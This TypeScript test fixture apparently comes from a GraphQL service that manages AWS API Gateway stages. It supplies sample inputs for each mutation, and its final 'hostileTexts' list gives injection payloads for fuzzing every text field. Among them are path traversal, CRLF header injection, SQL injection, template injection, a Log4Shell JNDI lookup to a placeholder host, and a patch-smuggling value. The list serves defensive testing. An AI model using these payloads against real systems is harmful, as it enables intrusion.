import {
  getNamedType,
  type GraphQLInputObjectType,
  type GraphQLSchema,
  isInputObjectType,
  isScalarType,
} from 'graphql';
import type { MutationName } from './mutations.ts';

type Input = Readonly<Record<string, unknown>>;

const target = { account: '000000000000', region: 'us-east-1' };
const prod = { ...target, restApiId: 'petstore01', stageName: 'prod', confirm: 'prod' };
const dev = { ...target, restApiId: 'petstore01', stageName: 'dev', confirm: 'dev' };
const destinationArn = 'arn:aws:logs:us-east-1:123456789012:log-group:petstore-new';
const variable = { name: 'nameOfVariable', value: 'valueOfVariable' };
const override = { name: 'nameOfOverride', value: 'valueOfOverride' };
const tag = { key: 'keyOfTag', value: 'valueOfTag' };
const pets = { resourcePath: '/pets', httpMethod: 'GET' };
const settings = {
  metricsEnabled: true,
  loggingLevel: 'INFO',
  dataTraceEnabled: false,
  throttlingBurstLimit: 7,
  throttlingRateLimit: 0.5,
  cachingEnabled: true,
  cacheTtlInSeconds: 60,
  cacheDataEncrypted: true,
  requireAuthorizationForCacheControl: true,
  unauthorizedCacheControlHeaderStrategy: 'FAIL_WITH_403',
  blockAllTraffic: false,
};

/**
 * Valid inputs with the sample data that together name every field of every input type, apart from `expectedRevision`
 * and `dryRun`. No two strings within one are the same unless they mean the same.
 */
export const wholeInputs: Readonly<Record<MutationName, readonly Input[]>> = {
  createStage: [
    {
      ...target,
      restApiId: 'petstore01',
      stageName: 'fresh',
      confirm: 'fresh',
      deploymentId: 'dep001',
      description: 'Described',
      cacheClusterEnabled: true,
      cacheClusterSize: 'SIZE_1_6_GB',
      variables: [variable],
      documentationVersion: '1.0',
      canarySettings: {
        deploymentId: 'dep002',
        percentTraffic: 5,
        useStageCache: true,
        stageVariableOverrides: [override],
      },
      tracingEnabled: true,
      tags: [tag],
      methodSettings: [{ ...pets, settings }],
      accessLogSettings: { destinationArn, format: '$context.requestId' },
      clientCertificateId: 'cert01',
    },
  ],
  updateStage: [
    {
      ...prod,
      deploymentId: 'dep003',
      description: 'Described',
      cacheClusterEnabled: true,
      cacheClusterSize: 'SIZE_1_6_GB',
      clientCertificateId: 'cert01',
      documentationVersion: '1.0',
      tracingEnabled: false,
      variables: { set: [variable], remove: ['nameToRemove'] },
      accessLogSettings: { destinationArn, format: '$context.requestId' },
      canarySettings: {
        deploymentId: 'dep002',
        percentTraffic: 5,
        useStageCache: true,
        setVariableOverrides: [override],
        removeVariableOverrides: ['featureFlags'],
      },
      methodSettings: [{ ...pets, settings }],
    },
  ],
  setMethodSetting: [{ ...prod, ...pets, settings }],
  removeMethodSetting: [
    { ...prod, ...pets },
    { ...prod, key: '~1pets/GET' },
  ],
  setStageVariables: [{ ...prod, set: [variable], remove: ['nameToRemove'] }],
  setCanarySettings: [
    {
      ...prod,
      deploymentId: 'dep002',
      percentTraffic: 5,
      useStageCache: true,
      setVariableOverrides: [override],
      removeVariableOverrides: ['featureFlags'],
    },
  ],
  promoteCanary: [{ ...prod, removeCanary: false }],
  removeCanary: [prod],
  setAccessLogSettings: [{ ...prod, destinationArn, format: '$context.requestId' }],
  removeAccessLogSettings: [prod],
  patchStage: [
    {
      ...prod,
      patchOperations: [{ op: 'replace', path: '/description', value: 'Described' }],
    },
    {
      ...prod,
      patchOperations: [{ op: 'copy', path: '/deploymentId', from: '/canarySettings/deploymentId' }],
    },
  ],
  createRestApiDeployment: [
    {
      ...prod,
      description: 'Described',
      canarySettings: {
        percentTraffic: 5,
        stageVariableOverrides: [{ name: 'table', value: 'valueOfOverride' }],
        useStageCache: true,
      },
    },
    {
      ...dev,
      description: 'Described',
      stageDescription: 'Described too',
      cacheClusterEnabled: true,
      cacheClusterSize: 'SIZE_1_6_GB',
      variables: [variable],
      tracingEnabled: true,
    },
  ],
  applyStage: [
    {
      ...dev,
      replace: ['TRACING'],
      create: false,
      desired: {
        deploymentId: 'dep001',
        description: 'Described',
        cacheClusterEnabled: true,
        cacheClusterSize: 'SIZE_1_6_GB',
        clientCertificateId: 'cert01',
        documentationVersion: '1.0',
        tracingEnabled: true,
        variables: [variable],
        accessLogSettings: { destinationArn, format: '$context.requestId' },
        canarySettings: {
          deploymentId: 'dep002',
          percentTraffic: 5,
          useStageCache: true,
          stageVariableOverrides: [override],
        },
        methodSettings: [{ ...pets, settings }],
        tags: [tag],
      },
    },
  ],
  revertStage: [{ ...prod, toRevision: 'anEarlierRevision', parts: ['DESCRIPTION'], expectedPlan: 'none' }],
  recordStageBaseline: [prod],
  removeStageBaseline: [prod],
  copyStageSettings: [
    {
      ...prod,
      from: { ...target, restApiId: 'petstore01', stageName: 'dev' },
      parts: ['DESCRIPTION', 'VARIABLES'],
    },
  ],
  deleteStage: [prod],
  flushStageCache: [prod],
  flushStageAuthorizersCache: [prod],
  tagStage: [{ ...prod, tags: [tag] }],
  untagStage: [{ ...prod, keys: ['team'] }],
};

/** The type of a mutation's only argument; by its name, as documents name it. */
export function inputTypeOf(schema: GraphQLSchema, name: MutationName): GraphQLInputObjectType {
  const type = schema.getType(`${name.charAt(0).toUpperCase()}${name.slice(1)}Input`);
  if (!isInputObjectType(type)) throw new Error(`${name} has no input`);
  return type;
}

/** Where a text is put in, from the input down; list entries have the index 0. */
export type Place = readonly string[];

/** Every place of a type that takes a text, through lists and nested inputs. */
export function textPlaces(type: GraphQLInputObjectType): readonly Place[] {
  return Object.values(type.getFields()).flatMap((field): readonly Place[] => {
    const named = getNamedType(field.type);
    const start = [field.name, ...Array.from(field.type.toString().matchAll(/\[/g), () => '0')];
    if (isInputObjectType(named)) return textPlaces(named).map((place) => [...start, ...place]);
    return isScalarType(named) && ['ID', 'String'].includes(named.name) ? [start] : [];
  });
}

/** What an input has at a place; undefined where it has nothing there. */
export const at = (input: unknown, place: Place): unknown =>
  place.reduce<unknown>((value, key) => (value as Input | undefined)?.[key], input);

/** An input with another value at a place. */
export function withValueAt(input: unknown, [key, ...rest]: Place, value: unknown): unknown {
  if (key === undefined) return value;
  if (Array.isArray(input)) {
    return input.map((entry: unknown, index) =>
      String(index) === key ? withValueAt(entry, rest, value) : entry,
    );
  }
  const fields = (input ?? {}) as Input;
  return { ...fields, [key]: withValueAt(fields[key], rest, value) };
}

const everyControl = Array.from({ length: 32 }, (_, code) => String.fromCharCode(code)).join('');

/** Texts that mean something to a parser, a pointer, a URL, a terminal, a template or a language. */
export const hostileTexts: readonly string[] = [
  'a/../deploymentId',
  '../../deploymentId',
  '/deploymentId',
  '/variables/other',
  '/a~1b',
  '~',
  '~0',
  '~1',
  '~2',
  '~01',
  '%2f',
  '%252fdeploymentId',
  '/',
  '//',
  '.',
  'a\nb',
  'a\r\nX-Injected: 1',
  'a\u0000b',
  'a\tb',
  everyControl,
  '\ud800',
  'a\udfffb',
  '\u2028\u2029',
  '\u202eevil',
  '👩‍💻',
  'x'.repeat(60_000),
  '',
  '   ',
  '__proto__',
  'constructor',
  '*',
  '*/*',
  '$LATEST',
  "' OR 1=1 --",
  '{{7*7}}',
  '${jndi:ldap://a.example/x}',
  '","op":"remove',
  '?a=b&c#d',
];
